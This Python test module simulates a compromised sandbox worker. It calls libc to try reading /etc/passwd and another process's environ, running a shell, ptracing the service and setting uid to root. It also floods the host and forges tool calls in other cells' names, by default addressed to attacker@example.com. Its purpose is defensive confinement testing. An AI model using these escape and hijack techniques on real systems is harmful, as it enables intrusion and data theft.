"""Test-only stand-in for an attacker who owns a worker: native calls straight into libc.

A worker started by ``start_worker(options, cap, test_payload=plan)`` loads this file before it
confines itself and, once confined and ``ready``, calls ``run`` instead of serving cells (see
``guest_runtime.worker._test_payload``; a production install has no ``tests/`` and refuses).  Each
probe calls libc through ctypes, as code injected through a QuickJS memory bug would, and records
the errno it got back (0: the call succeeded).  The results go to the host as one frame.

``plan`` is JSON: ``{"probes": [names], "service_pid": int, "redis_port": int, "paths": {...}}``, and
``"linger_s"``: how long the worker stays after its report without reading anything the host sends.

A plan with ``"flood_calls": {"tool": name, "frames": n, "pace_s": s}`` instead serves one cell the way
an attacker would: it reads the ``run`` frame, then writes ``n`` idle frames, each with one new call of
``tool``, one every ``s`` seconds (0: as fast as the pipe takes them), and never reads again
(``flood_calls``).  ``"flood_values": {"frames": n, "values": m}`` reads the ``run`` frame, then writes
``n`` idle frames for a runtime that does not exist, each padded with ``m`` tiny JSON values, and never
reads again (``flood_values``).

``"forge_texts": {"value": text, "output": [texts]}`` serves every cell with exactly those texts as its
output and value, JSON or not (``forge_texts``); ``value`` may be ``[head, unit, times, tail]`` for a long
one.

A plan with ``"hijack": {"tool": name, "trigger": text, "args": {...}}`` serves cells like a worker an
exploit took over (``hijack``): each cell answers at once with this process's pid and how many cells it
served, until a cell whose code holds ``trigger`` (the exploit) arrives; from then on the process is
owned, and every cell it receives, that one and all later ones whoever they belong to, first calls
``tool`` with ``args`` (default ``{"to": "attacker@example.com"}``) in that cell's name (an idle frame
under its runtime id) and answers what the host replied.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

from bridge.framing import DEFAULT_FRAME_CAP, encode_frame
from bridge.messages import GuestRequest, OutputShipment, done_frame, idle_frame
from guest_runtime.worker import Channel

#: How the process was started, read as this module loads (before confinement, which forbids getcwd).
LAUNCH = {
    "cwd": os.getcwd(),
    "environ": sorted(os.environ),
    "isolated": sys.flags.isolated,
    "path": list(sys.path),
}

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]


O_RDONLY, O_WRONLY, O_CREAT, O_EXCL = os.O_RDONLY, os.O_WRONLY, os.O_CREAT, os.O_EXCL
PROT_READ, PROT_EXEC = 0x1, 0x4
MAP_PRIVATE, MAP_ANONYMOUS = 0x02, 0x20
PTRACE_SEIZE = 0x4206
RLIMIT_CPU = 0


class _Rlimit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_ulong), ("max", ctypes.c_ulong)]


def _errno(result: int) -> int:
    """The errno of a libc call that returned ``result`` (-1 on failure), else 0."""
    return ctypes.get_errno() if result == -1 else 0


def _read(path: str) -> int:
    fd = libc.open(path.encode(), O_RDONLY)
    if fd == -1:
        return ctypes.get_errno()
    buffer = ctypes.create_string_buffer(16)
    failed = _errno(libc.read(fd, buffer, 16))
    libc.close(fd)
    return failed


def _create(path: str) -> int:
    fd = libc.open(path.encode(), O_WRONLY | O_CREAT | O_EXCL, 0o600)
    if fd == -1:
        return ctypes.get_errno()
    libc.close(fd)
    return 0


def _sockaddr(port: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H4s", port, socket.inet_aton("127.0.0.1")) + bytes(8)


def _connect_to(port: int) -> int:
    """socket() then connect() to 127.0.0.1:port (a real redis-server in the tests)."""
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    if fd == -1:
        return ctypes.get_errno()
    address = _sockaddr(port)
    failed = _errno(libc.connect(fd, address, len(address)))
    libc.close(fd)
    return failed


def _fork() -> int:
    pid = libc.fork()
    if pid == 0:
        libc._exit(0)
    if pid == -1:
        return ctypes.get_errno()
    os.waitpid(pid, 0)
    return 0


def _pin(pid: int) -> int:
    """sched_setaffinity of ``pid`` (0: this thread) to the CPUs it has: the permission is the probe, so an
    unconfined run changes nothing (CPU 0 if even reading them is refused)."""
    mask = (ctypes.c_ubyte * 128)()
    if libc.sched_getaffinity(pid, ctypes.sizeof(mask), ctypes.byref(mask)) == -1:
        mask[0] = 1
    return _errno(libc.sched_setaffinity(pid, ctypes.sizeof(mask), ctypes.byref(mask)))


def _mmap_executable() -> int:
    address = libc.mmap(None, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
    return ctypes.get_errno() if address in (None, ctypes.c_void_p(-1).value) else 0


def _raise_cpu_limit() -> int:
    limit = _Rlimit()
    libc.getrlimit(RLIMIT_CPU, ctypes.byref(limit))
    return _errno(libc.setrlimit(RLIMIT_CPU, ctypes.byref(_Rlimit(limit.max, limit.max))))


def _execve() -> int:
    argv = (ctypes.c_char_p * 4)(b"sh", b"-c", b"exit 0", None)
    return _errno(libc.execve(b"/bin/sh", argv, None))


def _flood_stderr() -> int:
    """A greeting, a line longer than the relay logs, then stderr flooded until the service stops reading."""
    chunk = (b"x" * 4095 + b"\n") * 16
    for data in (b"attacker says hi\n", b"y" * 5000 + b"\n"):
        libc.write(2, data, len(data))
    for _ in range(256):  # 16 MiB at most
        if libc.write(2, chunk, len(chunk)) == -1:
            return ctypes.get_errno()
    return 0


def probes(plan: dict[str, Any]) -> dict[str, Callable[[], object]]:
    paths, service = plan.get("paths", {}), plan.get("service_pid", 1)
    return {
        "own_pid": lambda: 0 if libc.getpid() == os.getpid() else -1,  # the control: allowed calls work
        "launch": lambda: LAUNCH,  # not a call: how the service started this process
        "read_etc_passwd": lambda: _read("/etc/passwd"),
        "read_store_file": lambda: _read(paths["store"]),
        "create_file": lambda: _create(paths["new_file"]),
        "connect_redis": lambda: _connect_to(plan["redis_port"]),
        "fork": _fork,
        "kill_service": lambda: _errno(libc.kill(service, 0)),  # signal 0: the permission check alone
        "read_service_environ": lambda: _read(f"/proc/{service}/environ"),
        "mmap_executable": _mmap_executable,
        "setuid_root": lambda: _errno(libc.setuid(0)),
        "pin_service": lambda: _pin(service),  # another process's CPUs: the service's
        "pin_neighbour": lambda: _pin(plan["neighbour_pid"]),  # another worker's, of the same uid
        "pin_self": lambda: _pin(0),
        "raise_cpu_limit": _raise_cpu_limit,
        "flood_stderr": _flood_stderr,
        # The calls that kill the process: one per worker, the test reads its exit signal.
        "execve_shell": _execve,
        "ptrace_service": lambda: _errno(libc.ptrace(PTRACE_SEIZE, service, None, None)),
    }


def flood_calls(fd_out: int, tool: str, frames: int, pace_s: float) -> int:
    """Take a cell, then flood the host with its tool calls while never reading a reply."""
    channel = Channel(0, fd_out, DEFAULT_FRAME_CAP)
    first = channel.read()
    if first is None or first["t"] != "run":
        return 0
    try:
        for i in range(1, frames + 1):
            idle = idle_frame(
                rt=first["cell_id"],
                requests=[{"id": i, "method": "tool"}],
                cancels=[],
                output={"entries": 0},
                outstanding=i,
                cpu_ms=0.0,
                heap_bytes=0,
            )
            channel.write(idle, [json.dumps([tool, {"i": i}]).encode()])
            if pace_s:
                time.sleep(pace_s)
    except BrokenPipeError:
        return 0  # the host closed the pipe: it gave up on this worker
    time.sleep(60)  # still not reading: the host must end the cell by itself
    return 0


def hijack(fd_out: int, tool: str, trigger: str, args: dict[str, Any]) -> int:
    """Serve cells honestly (answering the pid) until the exploit's cell; then forge ``tool`` calls in every cell's name."""
    channel = Channel(0, fd_out, DEFAULT_FRAME_CAP)
    owned = False
    served = 0
    while (frame := channel.read()) is not None:
        if frame["t"] != "run":
            continue  # settles for runtimes it does not wait on, drops: an attacker ignores them
        rt = frame["cell_id"]
        served += 1
        owned = owned or trigger in frame["code"]
        answer: dict[str, Any] = {"pid": os.getpid(), "served": served, "owned": owned}
        if owned:
            answer["tool"] = _forged_call(channel, rt, tool, args)
        value = json.dumps(answer).encode()
        done = done_frame(
            rt=rt, value=len(value), output={"entries": 0}, cancels=[], cpu_ms=0.0, heap_bytes=0, recycle=False
        )
        channel.write(done, [value])
    return 0


def _forged_call(channel: Channel, rt: str, tool: str, args: dict[str, Any]) -> object:
    """Call ``tool`` as runtime ``rt``'s guest (reporting a heap of 0), and return what the host answered."""
    request = idle_frame(
        rt=rt,
        requests=[{"id": 1, "method": "tool"}],
        cancels=[],
        output={"entries": 0},
        outstanding=1,
        cpu_ms=0.0,
        heap_bytes=0,
    )
    channel.write(request, [json.dumps([tool, args]).encode()])
    while (frame := channel.read()) is not None:
        if frame["t"] == "settle" and frame["rt"] == rt:
            [reply] = frame["replies"]
            return json.loads(channel.read_raw()) if reply["ok"] else {"refused": reply.get("error")}
    return None


def forge_texts(fd_out: int, value: str | None, output: list[str]) -> int:
    """Serve every cell with ``output`` entries and a final ``value`` exactly as given (JSON or not): a
    worker's texts are embedded in envelopes as they are.  Without a ``value``, park each cell on a
    timer instead (its output goes into a waiting envelope)."""
    channel = Channel(0, fd_out, DEFAULT_FRAME_CAP)
    texts = [entry.encode() for entry in output]
    shipment: OutputShipment = {"entries": len(texts)}
    while (frame := channel.read()) is not None:
        if frame["t"] != "run":
            continue
        rt = frame["cell_id"]
        if value is None:
            request: GuestRequest = {"id": 1, "method": "sleep"}
            idle = idle_frame(
                rt=rt, requests=[request], cancels=[], output=shipment, outstanding=1, cpu_ms=0.0, heap_bytes=0
            )
            channel.write(idle, [b"[600000]", *texts])
            continue
        data = value.encode()
        done = done_frame(rt=rt, value=len(data), output=shipment, cancels=[], cpu_ms=0.0, heap_bytes=0, recycle=False)
        channel.write(done, [*texts, data])
    return 0


def run(fd_out: int, plan_text: str) -> int:
    plan = json.loads(plan_text)
    if "flood_values" in plan:
        return flood_values(fd_out, plan["flood_values"]["frames"], plan["flood_values"]["values"])
    if "forge_texts" in plan:
        forged = plan["forge_texts"]
        value = forged.get("value")
        if isinstance(value, list):  # [head, unit, times, tail]: a long text that need not fit the environment
            head, unit, times, tail = value
            value = head + unit * times + tail
        return forge_texts(fd_out, value, forged.get("output", []))
    if "hijack" in plan:
        forge = plan["hijack"]
        return hijack(fd_out, forge["tool"], forge["trigger"], forge.get("args", {"to": "attacker@example.com"}))
    if "flood_calls" in plan:
        flood = plan["flood_calls"]
        return flood_calls(fd_out, flood["tool"], flood["frames"], flood.get("pace_s", 0))
    table = probes(plan)
    results = {name: table[name]() for name in plan["probes"]}
    data = memoryview(encode_frame({"t": "probes", "results": results}))  # type: ignore[arg-type]
    while data:
        data = data[os.write(fd_out, data) :]
    time.sleep(plan.get("linger_s", 0))  # a worker that stops reading its pipe
    return 0


def flood_values(fd_out: int, frames: int, values: int) -> int:
    """Take a cell, then write frames of many tiny values (each would cost the host ~80 bytes parsed)."""
    channel = Channel(0, fd_out, DEFAULT_FRAME_CAP)
    first = channel.read()
    if first is None or first["t"] != "run":
        return 0
    # An idle frame of the right shape, for a runtime that does not exist, with the padding beside it.
    idle = idle_frame(
        rt="nobody", requests=[], cancels=[], output={"entries": 0}, outstanding=1, cpu_ms=0.0, heap_bytes=0
    )
    body = encode_frame(idle)[4:-1] + b',"pad":[' + b"0," * (values - 1) + b"0]}"
    frame = struct.pack(">I", len(body)) + body
    try:
        for _ in range(frames):
            view = memoryview(frame)
            while view:
                view = view[os.write(fd_out, view) :]
    except BrokenPipeError:
        return 0  # the host closed the pipe: it gave up on this worker
    time.sleep(60)
    return 0
